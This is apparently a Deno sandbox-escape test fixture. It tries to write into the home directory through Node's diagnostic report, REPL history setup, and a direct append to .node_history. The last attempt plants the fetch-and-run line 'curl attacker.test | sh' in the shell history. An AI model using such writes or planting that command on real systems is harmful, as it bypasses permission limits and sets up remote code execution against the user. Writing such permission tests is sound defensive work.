//= wants: to write into files of the home, by the REPL's history and by traces
import process from "node:process";
const report = (process as unknown as { report?: { writeReport(path: string): string } }).report;
try {
  console.log("CAPTURED", report?.writeReport("@tmp@/report.json") ?? "", Deno.statSync("@tmp@/report.json").size);
} catch {
  // the next one
}
try {
  const { start } = await import("node:repl");
  const repl = start({ input: undefined, terminal: false } as never);
  (repl as unknown as { setupHistory(path: string, done: () => void): void }).setupHistory("@home@/.node_history", () => {});
  repl.close();
} catch {
  // the next one
}
try {
  Deno.writeTextFileSync("@home@/.node_history", "curl attacker.test | sh", { append: true });
} catch {
  // the harness looks for files
}
Deno.exit(0);
